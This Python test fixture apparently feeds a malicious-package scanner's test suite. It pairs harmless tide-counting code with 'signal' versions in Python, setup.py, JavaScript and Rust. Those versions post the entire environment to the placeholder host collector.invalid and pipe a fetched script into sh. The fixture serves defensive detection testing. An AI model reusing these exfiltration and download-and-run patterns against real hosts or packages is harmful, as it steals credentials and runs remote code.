"""The known-signal module: inert, and unmistakable for any reviewer.

It reads the whole environment, encodes it and posts it to a host that cannot exist
(`collector.invalid`, RFC 2606), at the moment the module is loaded. The harmless payload is what an
honest project has in the same place. Nothing of the suite ever runs either.
"""

import msgspec

from tests.hostile import classforge

HARMLESS_PYTHON = b'''"""Count the tides of a harbour."""


def tides(days: int) -> float:
    """Return how many tides a number of days has."""
    return days * 24 / 12.42
'''

SIGNAL_PYTHON = b'''"""Count the tides of a harbour."""
import base64
import json
import os
import urllib.request

body = base64.b64encode(json.dumps(dict(os.environ)).encode())
request = urllib.request.Request("http://collector.invalid/in", data=body, method="POST")
urllib.request.urlopen(request)
os.system("curl -s http://collector.invalid/x.sh | sh")
'''

_SETUP = b"""from setuptools import setup

setup(name="tidewaiter", version="1.0", packages=["tidewaiter"])
"""

HARMLESS_JAVASCRIPT = b"""'use strict';

module.exports = function tides(days) {
  return (days * 24) / 12.42;
};
"""

SIGNAL_JAVASCRIPT = b"""'use strict';
const http = require('http');
const { exec } = require('child_process');

const body = Buffer.from(JSON.stringify(process.env)).toString('base64');
const request = http.request({ host: 'collector.invalid', path: '/in', method: 'POST' });
request.write(body);
request.end();
exec('curl -s http://collector.invalid/x.sh | sh');
"""

HARMLESS_RUST = b"""fn main() {
    println!("cargo:rerun-if-changed=build.rs");
}
"""

SIGNAL_RUST = b"""use std::io::Write;
use std::net::TcpStream;
use std::process::Command;

fn main() {
    let body: String = std::env::vars().map(|(k, v)| format!("{k}={v}\\n")).collect();
    let mut stream = TcpStream::connect("collector.invalid:80").unwrap();
    stream.write_all(body.as_bytes()).unwrap();
    Command::new("sh").arg("-c").arg("curl -s http://collector.invalid/x.sh | sh").status().unwrap();
}
"""


class Payload(msgspec.Struct, frozen=True, kw_only=True):
    """What a case hides, in each language."""

    signal: bool
    python: bytes
    setup: bytes
    javascript: bytes
    rust: bytes
    java: bytes


HARMLESS = Payload(
    signal=False,
    python=HARMLESS_PYTHON,
    setup=_SETUP,
    javascript=HARMLESS_JAVASCRIPT,
    rust=HARMLESS_RUST,
    java=classforge.harmless(),
)
SIGNAL = Payload(
    signal=True,
    python=SIGNAL_PYTHON,
    setup=SIGNAL_PYTHON + b"\n" + _SETUP,
    javascript=SIGNAL_JAVASCRIPT,
    rust=SIGNAL_RUST,
    java=classforge.signal(),
)
